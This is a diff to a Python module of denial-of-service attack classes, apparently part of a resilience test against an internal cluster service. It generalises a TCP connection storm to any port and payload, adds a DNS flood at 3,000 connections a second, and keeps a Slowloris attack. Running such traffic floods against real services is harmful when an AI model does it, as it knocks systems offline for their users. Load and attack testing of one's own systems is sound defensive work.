@@ -6,6 +6,7 @@ import socket
 import struct
 import time
 
+import wire
 from attack import Attack, Sent, pace
 
 _RESET = struct.pack("ii", 1, 0)  # closed at once, without TIME_WAIT
@@ -13,12 +14,12 @@ _GET = b"GET /metrics HTTP/1.1\r\nHost: pod\r\nConnection: close\r\n\r\n"
 _SOURCES = [f"127.0.9.{i}" for i in range(1, 17)]
 
 
-def _open(target, source):
+def _open(target, port, source):
     made = socket.socket()
     made.setblocking(False)
     made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
     made.bind((source, 0))
-    made.connect_ex((target.address, target.http_port))
+    made.connect_ex((target.address, port))
     return made
 
 
@@ -27,6 +28,11 @@ class Storm(Attack):
 
     per_second = 3000
     sources = _SOURCES[:1]
+    octets = _GET
+
+    @staticmethod
+    def port(target):
+        return target.http_port
 
     def attack(self, target):
         sent, held, number = Sent(), collections.deque(), 0
@@ -35,12 +41,12 @@ class Storm(Attack):
             for _ in range(count):
                 number += 1
                 with contextlib.suppress(OSError):
-                    one = _open(target, self.sources[number %
-                                                     len(self.sources)])
+                    one = _open(target, self.port(target),
+                                self.sources[number % len(self.sources)])
                     held.append(one)
-                    one.send(_GET)
+                    one.send(self.octets)
                     sent.messages += 1
-                    sent.octets += len(_GET)
+                    sent.octets += len(self.octets)
             while len(held) > per_second / 10:
                 self._close(held.popleft(), sent)
         while held:
@@ -48,10 +54,13 @@ class Storm(Attack):
         return sent
 
     @staticmethod
-    def _close(one, sent):
+    def _is_answer(octets):
+        return octets.startswith(b"HTTP/1.1 200")
+
+    def _close(self, one, sent):
         with contextlib.suppress(BlockingIOError):
             try:
-                good = one.recv(64).startswith(b"HTTP/1.1 200")
+                good = self._is_answer(one.recv(64))
             except BlockingIOError:
                 raise
             except OSError:
@@ -81,6 +90,21 @@ class StormOfMany(Storm):
     processes = 2
 
 
+class DnsStorm(Storm):
+    name = "2g"
+    what = "3,000 connections a second to the DNS port, a question each"
+    processes = 2
+    octets = wire.framed(wire.question("cart.shop.svc.cluster.local"))
+
+    @staticmethod
+    def port(target):
+        return target.port
+
+    @staticmethod
+    def _is_answer(octets):
+        return len(octets) > 20
+
+
 class Slowloris(Attack):
     name = "5c"
     what = "1,500 connections of 4 clients send a header, an octet a second"
@@ -91,7 +115,8 @@ class Slowloris(Attack):
         while time.monotonic() < last:
             while len(held) < 1500:
                 with contextlib.suppress(OSError):
-                    held.append(_open(target, _SOURCES[len(held) % 4]))
+                    held.append(_open(target, target.http_port,
+                                      _SOURCES[len(held) % 4]))
                     sent.messages += 1
                     if sent.messages % 100 == 0:
                         break
@@ -110,4 +135,4 @@ class Slowloris(Attack):
         return sent
 
 
-ATTACKS = [Storm3000(), Storm12000(), Slowloris(), StormOfMany()]
+ATTACKS = [DnsStorm(), Storm3000(), Storm12000(), Slowloris(), StormOfMany()]
